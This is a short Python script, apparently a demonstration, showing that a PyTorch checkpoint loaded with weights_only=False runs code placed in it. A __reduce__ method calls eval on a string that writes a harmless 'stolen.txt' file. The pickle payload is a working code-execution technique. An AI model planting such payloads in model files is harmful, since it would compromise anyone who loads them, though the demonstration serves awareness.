# /// script
# dependencies = ["torch"]
# ///
from pathlib import Path

import torch


class Payload:
    def __reduce__(self):  # what a stranger can put into a file
        return eval, ("open('stolen.txt', 'w').write('your keys')",)


torch.save({"weight": torch.ones(3), "config": Payload()}, "run.pt")
file = torch.load("run.pt", weights_only=False)
# check
assert Path("stolen.txt").read_text() == "your keys"
print(f"loaded, and the file ran its own code: it wrote {Path('stolen.txt').stat().st_size} bytes to stolen.txt")
